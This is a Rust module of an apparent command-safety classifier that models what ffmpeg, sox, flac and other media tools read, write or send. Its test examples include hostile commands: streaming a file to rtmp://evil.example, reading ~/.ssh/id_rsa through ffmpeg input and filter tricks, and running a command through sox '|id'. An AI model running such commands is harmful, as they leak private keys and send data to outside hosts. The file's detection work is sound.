//! Programs that show or change sound and films: `ffmpeg`, `sox`, `flac`.

use crate::effect::Payload;
use crate::invocation::Argument;
use crate::model::{Model, Parsed, Report};
use crate::models::kinds::{
    WORDS, behind, changes, ex, gnu, list, model, reads, reads_first_writes_second,
};
use crate::models::web;
use crate::value::{Origin, Value};

/// The programs of this file, each with its options, its effects and its examples.
pub(in crate::models) const TABLE: &[Model] = &[
    model(
        &["ffmpeg avconv ffprobe ffplay"],
        &WORDS,
        ffmpeg,
        &[
            ex("ffmpeg -i a.mp4 -vn -c:a aac out.m4a", &["write:workspace"]),
            ex("ffmpeg -y -i a.mp4 -vf 'scale=320:-1,fps=10' -an b.gif", &["write:workspace"]),
            ex(
                "ffmpeg -f lavfi -i testsrc=duration=1:size=320x240 -frames:v 1 a.png",
                &["write:workspace"],
            ),
            ex("ffprobe -v error -show_entries format=duration -of csv=p=0 a.mp4", &[]),
            ex("ffmpeg -i a.mp4 rtmp://evil.example/x", &["network:send"]),
            ex("ffmpeg -i a.mp4 md5:/home/user/.bashrc", &["unmodelled"]),
            ex("ffmpeg -i a.mp4 -f tee 'a.mkv|/home/user/.bashrc'", &["unmodelled"]),
            ex(
                "ffmpeg -i 'subfile,,start,0,end,0,,:/home/user/.ssh/id_rsa' o.mkv",
                &["unmodelled", "write:workspace"],
            ),
            ex(
                "ffmpeg -i a.mp4 -vf 'drawtext=textfile=/home/user/.ssh/id_rsa' b.mp4",
                &["unmodelled", "write:workspace"],
            ),
            ex("ffmpeg -f u8 -i ~/.ssh/id_rsa b.wav", &["read:secret", "write:workspace"]),
        ],
    ),
    model(
        &["sox"],
        &WORDS,
        sox,
        &[
            ex("sox a.wav -r 16000 b.wav trim 0 10", &["write:workspace"]),
            ex("sox '|id' b.wav", &["unmodelled", "write:workspace"]),
            ex("sox a.wav -n spectrogram -o /etc/x", &["unmodelled", "write:system"]),
        ],
    ),
    model(
        &["lame"],
        &gnu(&[list(
            "-V=, -b=, -B=, -q=, -h, -f, -r, -s=, -m=, -a, --preset=, -S --silent --quiet, --abr=, --vbr-new, --cbr, --tt=, --ta=, --tl=, --ty=, --tc=, --tn=, --tg=, --decode, --resample=, --lowpass=, --highpass=, \
             --ti=<, --out-dir=>, --add-id3v2, --id3v2-only, --noreplaygain, --bitwidth=, --signed, --unsigned, --scale=, --verbose, -v",
        )]),
        |report, parsed| match parsed.operands.len() {
            1 => changes(report, parsed),
            _ => reads_first_writes_second(report, parsed),
        },
        &[ex("lame -V2 a.wav b.mp3", &["write:workspace"])],
    ),
    model(
        &["flac"],
        &gnu(&[list(
            "-o --output-name=>, --output-prefix=>, -d --decode, -t --test, -a --analyze, -c --stdout, -f --force, -s --silent, --totally-silent, -w --warnings-as-errors, -0, -1, -2, -3, -4, -5, -6, -7, -8, -e, -m, -M, \
             -b --blocksize=, -l=, -p, -q=, -r=, -V --verify, --best, --fast, --keep-foreign-metadata, --force-raw-format, --endian=, --channels=, --bps=, --sample-rate=, --sign=, -T --tag=, -P --padding=, --no-padding, \
             --replay-gain, --skip=, --until=, --picture=<, --tag-from-file=, --delete-input-file, -H, -v",
        )]),
        |report, parsed| {
            if parsed.has("-t") || parsed.has("-c") || parsed.has("-o") {
                reads(report, parsed);
            } else {
                changes(report, parsed);
            }
            if parsed.has("--tag-from-file") || parsed.has("--delete-input-file") {
                report.not_understood("it reads or deletes more than its files");
            }
        },
        &[
            ex("flac -8 a.wav -o b.flac", &["write:workspace"]),
            ex("flac --output-name=/etc/x a.wav", &["write:system"]),
        ],
    ),
    model(
        &["oggenc", "opusenc"],
        &gnu(&[list(
            "-o --output=>, -q --quality=, -b --bitrate=, -Q --quiet, -a --artist=, -t --title=, -l --album=, -c --comment=, -G --genre=, -N --tracknum=, -d --date=, --comp=, --vbr, --cvbr, --hard-cbr, --music, --speech, \
             --framesize=, --downmix-mono, --downmix-stereo, --picture=<, --discard-comments, --resample=, -h, -V, -v",
        )]),
        changes,
        &[ex("oggenc -q 5 a.wav -o b.ogg", &["write:workspace"])],
    ),
    model(
        &["mediainfo"],
        &gnu(&[list("-f --Full, --Language=, --Output=, --Version, --Help")]),
        |report, parsed| {
            reads(report, parsed);
            if parsed
                .values("--Output")
                .any(|form| form.value.as_known().is_none_or(|form| form.contains("file:")))
            {
                report.not_understood("its form stands in a file");
            }
        },
        &[ex("mediainfo --Output=JSON a.mp4", &[])],
    ),
    model(
        &["aplay", "afplay"],
        &gnu(&[list(
            "-l --list-devices, -L, -q --quiet, -D --device=, -f --format=, -r --rate=, -c --channels=, -t --file-type=, -d --duration=, -N, -v --verbose, --volume=, -V",
        )]),
        reads,
        &[ex("aplay a.wav", &[])],
    ),
    model(
        &["x264", "x265"],
        &gnu(&[list(
            "-o --output=>, --crf=, --preset=, --tune=, --profile=, --level=, -q --qp=, -B --bitrate=, --fps=, -I --keyint=, -i --min-keyint=, -b --bframes=, --input-res=, --input-csp=, --input-depth=, --frames=, --seek=, \
             --threads=, --quiet, --no-progress, --demuxer=, --muxer=, --csv=>, --stats=>, --qpfile=<, --dump-yuv=>, --recon=>, -p --pass=, -V, -h",
        )]),
        |report, parsed| {
            reads(report, parsed);
            if parsed.has("-p") {
                report.path(crate::effect::Access::Write, "x264_2pass.log");
            }
        },
        &[ex("x264 --crf 20 -o a.mkv a.y4m", &["write:workspace"])],
    ),
];

/// Options of `ffmpeg` without values, and those with values that name no file, each without what follows its colon.
const FLAGS: &str = " y n an vn sn dn shortest re copyts accurate_seek noaccurate_seek start_at_zero hide_banner nostdin stdin stats nostats benchmark version formats codecs encoders \
    decoders filters pix_fmts protocols devices bsfs layouts buildconf hwaccels sample_fmts muxers demuxers colors L h help autorotate noautorotate copyinkf bitexact \
    ignore_unknown show_format show_streams show_frames show_packets show_chapters show_programs show_error count_frames count_packets pretty unit sexagesimal prefix byte_binary_prefix \
    show_private_data show_stream_groups nodisp autoexit find_stream_info xerror ";
/// Options of `ffmpeg` with a value that names no file.
const VALUES: &str = " c codec vcodec acodec scodec b ab vb r s ss sseof t to crf preset tune profile level pix_fmt ac ar aq q qscale qmin qmax qcomp maxrate minrate bufsize g bf refs \
    keyint_min sc_threshold map map_metadata map_chapters metadata disposition aspect frames vframes aframes threads loglevel v f itsoffset itsscale loop stream_loop framerate video_size \
    sample_rate channels channel_layout sample_fmt vsync fps_mode async movflags tag vtag atag strict pass hwaccel hwaccel_output_format hwaccel_device analyzeduration probesize fflags \
    flags avoid_negative_ts max_muxing_queue_size muxdelay muxpreload reset_timestamps segment_time segment_format segment_start_number hls_time hls_list_size hls_playlist_type hls_flags \
    hls_segment_type seg_duration pattern_type start_number update compression_level lossless cq rc row-mt cpu-used deadline tile-columns auto-alt-ref lag-in-frames application vbr \
    frame_duration cutoff write_xing id3v2_version timecode vol safe discard ignore_loop final_delay plays bsf shortest_buf_duration show_entries of print_format output_format \
    select_streams read_intervals window_title volume x y color_primaries color_trc colorspace color_range color_range movie_timescale video_track_timescale fpsmax max_alloc fs ";
/// Options whose value is a chain of filters.
const FILTERS: &[&str] = &["vf", "af", "filter", "filter_complex", "lavfi"];
/// Options whose value is a file that is written.
const WRITTEN: &[&str] =
    &["passlogfile", "hls_segment_filename", "segment_list", "vstats_file", "o"];

/// Forms of files that lead to nothing else.
const FORMS: &str = " mp4 mov matroska webm avi flv mpegts mp3 wav ogg flac adts aac ac3 opus ipod gif apng image2 image2pipe rawvideo yuv4mpegpipe null s16le s16be s24le s32le f32le u8 \
    mulaw alaw concat hls dash segment ffmetadata webvtt srt ass framecrc framemd5 md5 hash crc h264 hevc ivf mjpeg png_pipe asf caf aiff amr 3gp nut singlejpeg lavfi ";

/// Filters that name no file.
const HARMLESS: &str = " scale fps crop pad transpose hflip vflip rotate trim atrim setpts asetpts overlay concat split asplit format aformat amix amerge volume loudnorm aresample fade afade \
    drawtext drawbox drawgrid palettegen paletteuse null anull yadif bwdif eq hue unsharp gblur boxblur noise setsar setdar thumbnail tile select aselect showinfo showwaves showwavespic \
    showspectrum showspectrumpic silencedetect silenceremove blackdetect cropdetect atempo adelay highpass lowpass bass treble equalizer compand dynaudnorm acompressor pan channelsplit \
    channelmap join hstack vstack xstack blend colorkey chromakey color testsrc testsrc2 sine anullsrc nullsrc smptebars mandelbrot zoompan reverse areverse loop aloop settb setfield \
    minterpolate mpdecimate framerate histogram vectorscope waveform volumedetect astats apad asetrate anoisesrc alphamerge alphaextract lut geq negate edgedetect vignette delogo idet \
    telecine pullup copy acopy afftdn tonemap zscale colorspace deband stereo3d xfade acrossfade tpad freezedetect scdet signalstats colorbalance colorchannelmixer ";

/// True for a word of a list that is written as one text.
fn is_one(name: &str, of: &str) -> bool {
    !name.is_empty() && !name.contains(' ') && of.contains(&format!(" {name} "))
}

/// The effects of `ffmpeg`.
fn ffmpeg(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let shows = matches!(report.name(), "ffprobe" | "ffplay");
    let mut is_graph = false;
    let mut input = Value::Unknown(Origin::Other);
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        let text = word.value.prefix();
        let Some(option) = text.strip_prefix('-').filter(|rest| !rest.is_empty()) else {
            media(report, word, &input, !shows);
            continue;
        };
        let name = option.split(':').next().unwrap_or_default();
        if is_one(name, FLAGS) {
            continue;
        }
        let Some(value) = words.next() else {
            report.not_understood(format!("its option `{text}` is not known"));
            return;
        };
        let known = value.value.as_known();
        if word.value.as_known().is_none() {
            report.not_understood("an option of it is not known");
        } else if name == "i" {
            input = value.value.clone();
            match is_graph {
                true if known.is_some_and(is_harmless) => {}
                true => report.not_understood("a filter of it is not known"),
                false => media(report, value, &input, false),
            }
            is_graph = false;
        } else if FILTERS.contains(&name) {
            if !known.is_some_and(is_harmless) {
                report.not_understood("a filter of it is not known");
            }
        } else if name == "f" {
            is_graph = known == Some("lavfi");
            if !known.is_some_and(|form| is_one(form, FORMS)) {
                report.not_understood("a form of it is not known");
            }
        } else if WRITTEN.contains(&name) {
            report.writes(value);
        } else if !is_one(name, VALUES) {
            report.not_understood(format!("its option `{text}` is not known"));
        } else if name == "pass" {
            report.path(crate::effect::Access::Write, "ffmpeg2pass-0.log");
        }
    }
}

/// What it reads or writes: a file, an address, or something of its own.
fn media(report: &mut Report<'_>, word: &Argument, input: &Value, writes: bool) {
    let text = match &word.value {
        // Where no file fits, it is given the pattern.
        Value::Unknown(Origin::Glob(pattern)) if pattern.contains([':', ',']) => pattern,
        other => other.prefix(),
    };
    let is_of_name = |char: char| char.is_ascii_alphanumeric() || "+-._".contains(char);
    let protocol = text.find(|char| !is_of_name(char)).map(|at| text.split_at(at));
    let file = match protocol {
        Some(("file", _)) => behind(word, "file:"),
        Some(("pipe", rest)) if rest.starts_with(':') => return,
        Some((_, rest)) if rest.starts_with("://") => {
            let sends = if writes { Payload::File(input.clone()) } else { Payload::None };
            return web::fetch_any(report, word, sends);
        }
        Some((_, rest)) if rest.starts_with([':', ',']) => None,
        _ if text.contains('|') => None,
        _ => Some(word.clone()),
    };
    match file {
        None => report.not_understood(format!("`{text}` is more than a file")),
        Some(file) if writes => report.writes(&file),
        Some(file) => report.reads(&file),
    }
}

/// True for filters that name no file.
fn is_harmless(graph: &str) -> bool {
    let mut filters = vec![String::new()];
    let (mut is_quoted, mut chars) = (false, graph.chars());
    while let Some(char) = chars.next() {
        match char {
            '\'' => is_quoted = !is_quoted,
            '\\' if !is_quoted => {
                filters.last_mut().into_iter().for_each(|last| last.extend(chars.next()))
            }
            ',' | ';' if !is_quoted => filters.push(String::new()),
            _ => filters.last_mut().into_iter().for_each(|last| last.push(char)),
        }
    }
    filters.iter().all(|filter| {
        let mut rest = filter.trim();
        while let Some((_, behind)) = rest.strip_prefix('[').and_then(|rest| rest.split_once(']')) {
            rest = behind.trim_start();
        }
        let end = rest.find(['=', '[', '@', ' ', '\n']).unwrap_or(rest.len());
        let (name, arguments) = rest.split_at(end);
        // Quotes and backslashes may stand within those of the graph, too.
        let plain: String = arguments.chars().filter(|char| !matches!(char, '\\' | '\'')).collect();
        let first =
            plain.strip_prefix('=').unwrap_or_default().split(':').next().unwrap_or_default();
        let is_named = name != "drawtext" || first.contains('=');
        is_one(name, HARMLESS) && !plain.contains("file") && is_named
    })
}

/// `sox [options] in … [options] out [effects …]`
fn sox(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    /// Effects of `sox` that touch no file.
    const EFFECTS: &str = " trim rate gain norm vol fade remix channels silence pad speed tempo pitch reverb bass treble highpass lowpass bandpass band equalizer compand echo flanger chorus \
        tremolo phaser overdrive dither stat stats reverse repeat swap vad synth contrast loudness mcompand stretch upsample downsample dcshift delay splice ";
    let flags = [
        "-n", "-q", "-S", "-V", "-V1", "-V2", "-V3", "-m", "-M", "-G", "-R", "-D", "-L", "-B",
        "-p", "-d", "--norm", "--version", "--help", "-h", "--i",
    ];
    let values = [
        "-t", "-r", "-c", "-b", "-e", "-v", "-C", "--bits", "--rate", "--channels", "--encoding",
        "--combine", "--type",
    ];
    let mut files: Vec<&Argument> = Vec::new();
    let mut effects = false;
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        let text = word.value.prefix();
        let is_effect = word.value.as_known().is_some_and(|text| is_one(text, EFFECTS));
        if files.len() > 1 && is_effect || effects {
            effects = true;
            // An effect that reads or writes a file is not among the known ones.
            let is_argument =
                text.starts_with(|char: char| char.is_ascii_digit() || "-+=.:".contains(char));
            if !is_effect
                && (!is_argument || text.contains('/') || word.value.as_known().is_none())
                && text.len() > 2
            {
                report.not_understood(format!("what `{text}` does to it is not known"));
            }
        } else if flags.contains(&text) {
            if matches!(text, "-n" | "-p" | "-d") {
                files.push(word);
            }
        } else if values.contains(&text) {
            words.next();
        } else if text.len() > 1 && text.starts_with('-') {
            report.not_understood(format!("its option `{text}` is not known"));
        } else if text.starts_with('|') {
            report.not_understood("it runs a command for its input");
            files.push(word);
        } else {
            files.push(word);
        }
    }
    let last = files.len().saturating_sub(1);
    for (at, file) in files.into_iter().enumerate() {
        let text = file.value.prefix();
        if text.starts_with(['-', '|']) {
            continue;
        }
        if text.contains("://") {
            web::fetch_any(report, file, Payload::None);
        } else if at == last && last > 0 {
            report.writes(file);
        } else {
            report.reads(file);
        }
    }
}
